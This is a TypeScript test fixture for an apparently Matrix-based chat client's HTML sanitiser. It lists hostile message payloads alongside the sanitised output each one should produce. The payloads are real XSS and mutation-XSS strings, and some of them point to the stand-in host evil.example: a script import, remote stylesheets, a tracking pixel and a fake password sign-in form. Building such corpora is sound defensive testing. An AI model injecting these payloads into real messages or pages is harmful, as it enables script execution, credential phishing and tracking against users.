/**
 * Hostile `formatted_body` payloads and what the sanitiser must make of them.
 *
 * The unit tests run the corpus through jsdom. It is kept free of test-runner imports so
 * that a browser test can send the same payloads through a real homeserver and render them
 * in Chromium. A browser's parser may serialise some results slightly differently, so a
 * browser test should check the invariants (allowed tags and attributes only, no handler,
 * no scheme outside https, http and mailto) and treat `expected` as the jsdom result.
 */

/** One hostile payload. */
export interface HostileHtmlCase {
	/** What the payload tries. */
	readonly name: string;
	/** The `formatted_body` as an attacker sends it. */
	readonly html: string;
	/** The sanitiser's output in jsdom; `''` means nothing is rendered or the input is rejected. */
	readonly expected: string;
}

const MXC = 'mxc://example.org/abc123';
const LINK_ATTRIBUTES = 'rel="noopener noreferrer" target="_blank"';

/** The corpus, grouped by kind of attack. */
export const hostileHtmlCorpus: readonly HostileHtmlCase[] = [
	// Script elements.
	{ name: 'inline script', html: '<script>alert(1)</script>', expected: '' },
	{
		name: 'external script in capitals',
		html: '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
		expected: ''
	},
	{
		name: 'script between paragraphs',
		html: '<p>a</p><script type="module">import("https://evil.example")</script><p>b</p>',
		expected: '<p>a</p><p>b</p>'
	},
	{
		name: 'script split by a nested tag',
		html: '<scr<script>ipt>alert(1)</script>',
		expected: 'ipt&gt;alert(1)'
	},
	{
		name: 'doubled opening bracket',
		html: '<<script>script>alert(1)</script>',
		expected: '&lt;'
	},

	// Event handler attributes.
	{ name: 'image error handler', html: '<img src=x onerror=alert(1)>', expected: '' },
	{
		name: 'handlers on a valid image',
		html: `<img src="${MXC}" onerror="alert(1)" onload="alert(2)">`,
		expected: `<img data-mxc="${MXC}">`
	},
	{
		name: 'mouseover on bold text',
		html: '<b onmouseover="alert(1)">hover</b>',
		expected: '<b>hover</b>'
	},
	{
		name: 'handler names in mixed case',
		html: '<p onclick=alert(1) ONCLICK=alert(2) OnDblClick=alert(3)>x</p>',
		expected: '<p>x</p>'
	},
	{
		name: 'details toggle handler',
		html: '<details open ontoggle=alert(1)><summary>s</summary>d</details>',
		expected: '<details><summary>s</summary>d</details>'
	},
	{ name: 'body onload', html: '<body onload=alert(1)>text', expected: 'text' },
	{
		name: 'focus handler with autofocus on a link',
		html: '<a href="https://example.org/" onfocus="alert(1)" autofocus>x</a>',
		expected: `<a href="https://example.org/" ${LINK_ATTRIBUTES}>x</a>`
	},
	{
		name: 'pointer and animation handlers',
		html: '<div onpointerenter=alert(1) onanimationstart=alert(2) style="animation:spin 1s">d</div>',
		expected: '<div>d</div>'
	},
	{
		name: 'handler next to an allowed colour',
		html: '<span data-mx-color="#ff0000" onmouseenter="alert(1)">r</span>',
		expected: '<span data-mx-color="#ff0000">r</span>'
	},
	{
		name: 'handler on a table cell',
		html: '<table><tr><td onclick=alert(1)>c</td></tr></table>',
		expected: '<table><tbody><tr><td>c</td></tr></tbody></table>'
	},
	{
		name: 'media source error handler',
		html: '<video><source onerror=alert(1)></video>',
		expected: ''
	},
	{
		name: 'handler with a slash separator',
		html: '<b/onmouseover=alert(1)>x</b>',
		expected: '<b>x</b>'
	},

	// SVG and MathML.
	{ name: 'svg onload', html: '<svg onload=alert(1)>', expected: '' },
	{ name: 'script inside svg', html: '<svg><script>alert(1)</script></svg>', expected: '' },
	{
		name: 'svg link with xlink:href',
		html: '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>click</text></a></svg>',
		expected: ''
	},
	{
		name: 'svg foreignObject with html inside',
		html: '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
		expected: ''
	},
	{
		name: 'svg animate changing href',
		html: '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
		expected: ''
	},
	{
		name: 'math element with href',
		html: '<math href="javascript:alert(1)">CLICKME</math>',
		expected: ''
	},
	{
		name: 'mathml data uri',
		html: '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
		expected: ''
	},

	// CSS.
	{
		name: 'style attribute with a url',
		html: '<p style="background:url(javascript:alert(1))">x</p>',
		expected: '<p>x</p>'
	},
	{
		name: 'style element importing remote css',
		html: "<style>@import 'https://evil.example/x.css';</style>text",
		expected: 'text'
	},
	{
		name: 'style element after text',
		html: 'text<style>body{display:none}</style>',
		expected: 'text'
	},
	{
		name: 'css injected through a colour',
		html: '<span data-mx-color="red;background:url(https://evil.example/x)">x</span>',
		expected: '<span>x</span>'
	},
	{
		name: 'css expression in a background colour',
		html: '<font color="#ff0000" data-mx-bg-color="expression(alert(1))">x</font>',
		expected: '<font color="#ff0000">x</font>'
	},
	{
		name: 'named colour instead of hex',
		html: '<font color="red" data-mx-color="#12345">x</font>',
		expected: '<font>x</font>'
	},
	{
		name: 'stylesheet link',
		html: '<link rel=stylesheet href=https://evil.example/x.css>text',
		expected: 'text'
	},
	{
		name: 'full-screen overlay',
		html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
		expected: '<div>overlay</div>'
	},
	{
		name: 'classes that would match app styles',
		html: '<p class="modal">x</p><code class="language-js hljs overlay">y</code>',
		expected: '<p>x</p><code class="language-js">y</code>'
	},

	// Link schemes.
	{
		name: 'javascript link',
		html: '<a href="javascript:alert(1)">x</a>',
		expected: '<a>x</a>'
	},
	{
		name: 'javascript link in mixed case',
		html: '<a href="JaVaScRiPt:alert(1)">x</a>',
		expected: '<a>x</a>'
	},
	{
		name: 'javascript link as decimal entities',
		html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
		expected: '<a>x</a>'
	},
	{
		name: 'javascript link with an encoded tab',
		html: '<a href="java&#x09;script:alert(1)">x</a>',
		expected: '<a>x</a>'
	},
	{
		name: 'javascript link with a line feed',
		html: '<a href="java\nscript:alert(1)">x</a>',
		expected: '<a>x</a>'
	},
	{
		name: 'javascript link behind control characters',
		html: '<a href=" &#1;&#14; javascript:alert(1)">x</a>',
		expected: '<a>x</a>'
	},
	{
		name: 'javascript link with a named colon entity',
		html: '<a href="javascript&colon;alert(1)">x</a>',
		expected: '<a>x</a>'
	},
	{
		name: 'data uri link',
		html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
		expected: '<a>x</a>'
	},
	{ name: 'vbscript link', html: '<a href="vbscript:msgbox(1)">x</a>', expected: '<a>x</a>' },
	{
		name: 'protocol-relative link',
		html: '<a href="//evil.example/">x</a>',
		expected: '<a>x</a>'
	},
	{
		name: 'backslash protocol-relative link',
		html: '<a href="\\\\evil.example\\">x</a>',
		expected: '<a>x</a>'
	},
	{
		name: 'relative link',
		html: '<a href="/_matrix/client/v3/logout">x</a>',
		expected: '<a>x</a>'
	},
	{ name: 'file link', html: '<a href="file:///etc/passwd">x</a>', expected: '<a>x</a>' },
	{ name: 'ftp link', html: '<a href="ftp://files.example/x">x</a>', expected: '<a>x</a>' },
	{
		name: 'userinfo that hides the real host',
		html: '<a href="https://clinic.example@evil.example/">x</a>',
		expected: '<a>x</a>'
	},
	{
		name: 'quote breaking out of the href',
		html: '<a href="https://example.org/&quot;onmouseover=&quot;alert(1)">x</a>',
		expected: `<a href="https://example.org/%22onmouseover=%22alert(1)" ${LINK_ATTRIBUTES}>x</a>`
	},
	{
		name: 'matrix.to link keeps working',
		html: '<a href="https://matrix.to/#/@therapist:clinic.example">Dr. Smith</a>',
		expected: `<a href="https://matrix.to/#/@therapist:clinic.example" ${LINK_ATTRIBUTES}>Dr. Smith</a>`
	},
	{
		name: 'target and opener set by the sender',
		html: '<a href="mailto:care@clinic.example" target="_top" rel="opener">mail</a>',
		expected: `<a href="mailto:care@clinic.example" ${LINK_ATTRIBUTES}>mail</a>`
	},
	{
		name: 'link with a ping and a download',
		html: '<a href="https://example.org/" ping="https://evil.example/" download>x</a>',
		expected: `<a href="https://example.org/" ${LINK_ATTRIBUTES}>x</a>`
	},

	// Forms.
	{
		name: 'fake sign-in form',
		html: '<form action="https://evil.example/"><input name="password" type="password"><button>Sign in</button></form>',
		expected: 'Sign in'
	},
	{
		name: 'nested forms with formaction',
		html: '<form><form><input formaction=javascript:alert(1) type=submit value=go></form>',
		expected: ''
	},
	{
		name: 'form fields with content',
		html: '<textarea>secret</textarea><select><option>choice</option></select>',
		expected: ''
	},
	{
		name: 'button with formaction',
		html: '<button formaction="javascript:alert(1)">click</button>',
		expected: 'click'
	},
	{
		name: 'isindex',
		html: '<isindex action=javascript:alert(1) type=image>',
		expected: ''
	},

	// Frames, objects and embeds.
	{ name: 'iframe', html: '<iframe src="https://evil.example/"></iframe>', expected: '' },
	{
		name: 'iframe srcdoc',
		html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
		expected: ''
	},
	{
		name: 'object with fallback',
		html: '<object data="javascript:alert(1)">fallback</object>',
		expected: ''
	},
	{ name: 'embed', html: '<embed src="https://evil.example/x.swf">', expected: '' },
	{
		name: 'frameset',
		html: '<frameset><frame src="javascript:alert(1)"></frameset>',
		expected: ''
	},
	{ name: 'portal', html: '<portal src="https://evil.example/"></portal>', expected: '' },

	// Base and meta.
	{
		name: 'base element redirecting links',
		html: '<base href="https://evil.example/"><a href="https://example.org/">x</a>',
		expected: `<a href="https://example.org/" ${LINK_ATTRIBUTES}>x</a>`
	},
	{
		name: 'meta refresh at the start',
		html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">text',
		expected: 'text'
	},
	{
		name: 'meta refresh after content',
		html: '<p>a</p><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
		expected: '<p>a</p>'
	},

	// DOM clobbering.
	{
		name: 'image named like a document method',
		html: `<img name="getElementById" src="${MXC}">`,
		expected: `<img data-mxc="${MXC}">`
	},
	{
		name: 'link with a global id',
		html: '<a id="location" href="https://example.org/">x</a>',
		expected: `<a href="https://example.org/" ${LINK_ATTRIBUTES}>x</a>`
	},
	{
		name: 'form clobbering attributes',
		html: '<form id="test"><input name="attributes"><input name="nodeName"></form>',
		expected: ''
	},
	{
		name: 'names and ids on text',
		html: '<p name="cookie" id="defaultView">x</p>',
		expected: '<p>x</p>'
	},

	// Mutation XSS: markup that changes meaning when serialised and parsed again.
	{
		// With scripting on, as in the page, noscript content is raw text up to the first
		// </noscript>, so what follows it is markup: an image that is dropped, and text.
		name: 'noscript with a closing tag in an attribute',
		html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
		// The first pass parses as the page does, with scripting on, so the noscript
		// ends at the first </noscript>; the image after it is dropped for its src.
		expected: '"&gt;'
	},
	{
		name: 'noscript in the body with a closing tag in an attribute',
		html: 'x<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
		expected: 'x"&gt;'
	},
	{
		name: 'mathml table mglyph style',
		html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
		expected: ''
	},
	{
		name: 'nested forms with math namespace confusion',
		html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
		expected: ''
	},
	{
		name: 'svg paragraph style confusion',
		// </p> breaks out of svg, so the style element is HTML and its text ends at
		// </style>. The image that follows is then real, but has no mxc:// source.
		html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
		expected: '<p></p>"&gt;'
	},
	{
		name: 'heading and mglyph namespace confusion',
		html: "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src='#' onerror='alert(1)'>\"></style></h1>",
		expected: ''
	},
	{
		name: 'xmp with a closing tag in an attribute',
		html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
		expected: '"&gt;'
	},
	{
		name: 'noembed around an image',
		html: '<div><noembed><img src=x onerror=alert(1)></noembed></div>',
		expected: '<div></div>'
	},
	{
		name: 'template content',
		html: '<template><img src=x onerror=alert(1)></template>',
		expected: ''
	},
	{
		name: 'comment hiding a tag',
		html: '<!--<img src=x onerror=alert(1)>-->',
		expected: ''
	},
	{
		name: 'comment that ends early',
		html: '<p>x</p><!--><img src=x onerror=alert(1)>-->',
		expected: '<p>x</p>--&gt;'
	},
	{
		name: 'entity-escaped markup stays text',
		html: '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
		expected: '<p>&lt;img src=x onerror=alert(1)&gt;</p>'
	},
	{
		name: 'cdata in html',
		html: '<p><![CDATA[<img src=x onerror=alert(1)>]]></p>',
		expected: '<p>]]&gt;</p>'
	},

	// Remote and malformed images.
	{
		name: 'tracking pixel',
		html: '<img src="https://evil.example/track.png" width="1" height="1">',
		expected: ''
	},
	{ name: 'data uri image', html: '<img src="data:image/png;base64,iVBORw0KGgo=">', expected: '' },
	{
		name: 'mxc with dot segments',
		html: '<img src="mxc://evil.example/../../_matrix/client/v3/logout">',
		expected: ''
	},
	{ name: 'mxc with a query', html: `<img src="${MXC}?allow_remote=true">`, expected: '' },
	{ name: 'mxc with userinfo', html: '<img src="mxc://user@example.org/abc123">', expected: '' },
	{
		name: 'mxc with percent-encoding',
		html: '<img src="mxc://example.org/abc%2F..%2Fdef">',
		expected: ''
	},
	{
		name: 'image size limits and text attributes',
		html: `<img src="${MXC}" width="99999" height="20" alt="a cat" title="Cat">`,
		expected: `<img height="20" alt="a cat" title="Cat" data-mxc="${MXC}">`
	},
	{
		name: 'srcset next to a valid source',
		html: `<img srcset="https://evil.example/x.png 1x" src="${MXC}">`,
		expected: `<img data-mxc="${MXC}">`
	},
	{
		name: 'remote source with a data-mxc from the sender',
		html: `<img data-mxc="${MXC}" src="https://evil.example/x.png">`,
		expected: `<img data-mxc="${MXC}">`
	},
	{
		name: 'data-mxc that is not an mxc uri',
		html: '<img data-mxc="https://evil.example/x.png">',
		expected: ''
	},
	{
		name: 'picture with a remote source',
		html: `<picture><source srcset="https://evil.example/x.png"><img src="${MXC}"></picture>`,
		expected: `<img data-mxc="${MXC}">`
	},
	{
		name: 'table background image',
		html: '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>',
		expected: '<table><tbody><tr><td>x</td></tr></tbody></table>'
	},

	// Reply fallbacks, removed since spec v1.13.
	{
		name: 'reply fallback',
		html: '<mx-reply><blockquote><a href="https://matrix.to/#/!room:example.org/$event">In reply to</a> <a href="https://matrix.to/#/@alice:example.org">@alice:example.org</a><br>original</blockquote></mx-reply>the reply',
		expected: 'the reply'
	},
	{
		name: 'reply fallback in capitals',
		html: '<MX-REPLY>hidden</MX-REPLY>shown',
		expected: 'shown'
	},
	{
		name: 'reply fallback inside a paragraph',
		html: '<p><mx-reply>nested <b>quote</b></mx-reply>reply</p>',
		expected: '<p>reply</p>'
	},

	// Attribute values that look valid but are not.
	{
		name: 'list start that is not a number',
		html: '<ol start="1; evil"><li>a</li></ol>',
		expected: '<ol><li>a</li></ol>'
	},
	{
		name: 'maths and spoiler on the wrong tags',
		html: '<p data-mx-maths="x" data-mx-spoiler="y">t</p><div data-mx-spoiler="z">u</div>',
		expected: '<p>t</p><div>u</div>'
	},
	{
		name: 'unknown data attributes',
		html: '<span data-mx-evil="1" data-tooltip="phish">t</span>',
		expected: '<span>t</span>'
	},

	// Limits.
	{
		name: 'nesting deeper than the spec allows',
		html: `${'<div>'.repeat(101)}deep`,
		expected: ''
	},
	{
		name: 'body longer than an event can be',
		html: `<p>${'a'.repeat(70_000)}</p>`,
		expected: ''
	}
];

/** Allowed formatting that must come through unchanged: the corpus's counterpart. */
export const allowedHtmlCorpus: readonly HostileHtmlCase[] = [
	{
		name: 'spoiler with and without a reason',
		html: '<span data-mx-spoiler>a</span> <span data-mx-spoiler="health">b</span>',
		expected: '<span data-mx-spoiler="">a</span> <span data-mx-spoiler="health">b</span>'
	},
	{
		name: 'inline and block maths',
		html: '<span data-mx-maths="\\frac{a}{b}">a/b</span><div data-mx-maths="x^2">x²</div>',
		expected: '<span data-mx-maths="\\frac{a}{b}">a/b</span><div data-mx-maths="x^2">x²</div>'
	},
	{
		name: 'span colours',
		html: '<span data-mx-color="#00ff00" data-mx-bg-color="#000000">g</span>',
		expected: '<span data-mx-color="#00ff00" data-mx-bg-color="#000000">g</span>'
	},
	{
		name: 'numbered list with a start',
		html: '<ol start="3"><li>three</li><li>four</li></ol>',
		expected: '<ol start="3"><li>three</li><li>four</li></ol>'
	},
	{
		name: 'code block with a language',
		html: '<pre><code class="language-python">print(1)\n</code></pre>',
		expected: '<pre><code class="language-python">print(1)\n</code></pre>'
	},
	{
		name: 'table with a caption',
		html: '<table><caption>c</caption><thead><tr><th>h</th></tr></thead><tbody><tr><td>d</td></tr></tbody></table>',
		expected:
			'<table><caption>c</caption><thead><tr><th>h</th></tr></thead><tbody><tr><td>d</td></tr></tbody></table>'
	},
	{
		name: 'text formatting',
		html: '<h2>t</h2><p><b>b</b><i>i</i><u>u</u><s>s</s><del>d</del><sup>1</sup><sub>2</sub><em>e</em><strong>s</strong><code>c</code></p><hr><blockquote>q<br>r</blockquote><ul><li>x</li></ul>',
		expected:
			'<h2>t</h2><p><b>b</b><i>i</i><u>u</u><s>s</s><del>d</del><sup>1</sup><sub>2</sub><em>e</em><strong>s</strong><code>c</code></p><hr><blockquote>q<br>r</blockquote><ul><li>x</li></ul>'
	},
	{
		name: 'image with all allowed attributes',
		html: `<img src="${MXC}" width="64" height="48" alt="chart" title="Mood chart">`,
		expected: `<img width="64" height="48" alt="chart" title="Mood chart" data-mxc="${MXC}">`
	},
	{
		name: 'nesting at the spec limit',
		html: `${'<div>'.repeat(100)}ok`,
		expected: `${'<div>'.repeat(100)}ok${'</div>'.repeat(100)}`
	}
];
